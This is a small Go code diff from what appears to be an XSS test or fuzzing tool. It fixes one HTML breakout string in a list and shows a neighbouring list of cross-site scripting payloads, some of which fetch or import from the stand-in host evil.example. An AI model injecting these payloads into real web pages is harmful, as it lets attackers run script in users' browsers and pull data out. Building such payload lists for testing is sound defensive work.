@@ -34,7 +34,7 @@ var known = []string{
 
 // Ways out of where a text stands, and what somebody would put behind them.
 var (
-	exits = []string{`">`, `'>`, "`>", `">​</svg>`, `</a></li></ol>`, `</title></head><body>`, `</text></svg>`, `</textarea></select></option>`, `--!><!--`, `]]>`, `</pre></code></p>`}
+	exits = []string{`">`, `'>`, "`>", `"></svg>`, `</a></li></ol>`, `</title></head><body>`, `</text></svg>`, `</textarea></select></option>`, `--!><!--`, `]]>`, `</pre></code></p>`}
 	loads = []string{
 		`<script>alert(1)</script>`, `<script type=module>alert(1)</script>`, `<script>fetch("//evil.example")</script>`, `<img src=x onerror=alert(1)>`, `<img src=//evil.example/x.png>`, `<svg/onload=alert(1)>`,
 		`<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`, `<a href=javascript:alert(1) id=main>x</a>`, `<input autofocus onfocus=alert(1)>`, `<style>@import "//evil.example";</style>`,
